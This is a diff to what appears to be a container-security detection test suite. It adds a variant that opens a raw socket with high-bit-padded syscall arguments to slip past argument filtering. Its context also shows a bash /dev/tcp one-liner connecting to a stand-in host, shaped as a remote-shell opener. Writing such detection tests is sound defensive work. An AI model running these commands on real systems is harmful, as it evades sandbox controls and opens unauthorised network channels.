@@ -21,6 +21,8 @@ for number in range(1, 121):
 PROOFS = [
     Proof("Raw socket opened in a container",
           attack=Python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
+          # The kernel looks at the low half of each register only.
+          others=(Python("import calls; assert calls.socket(1 << 40 | 17, 5 << 32 | 3, 0) >= 0"),),
           look_alike="ip -br address >/dev/null; ss -tln >/dev/null"),
 
     Proof("Shell connects by itself", attack="bash -c 'exec 3<>/dev/tcp/203.0.113.9/443'",
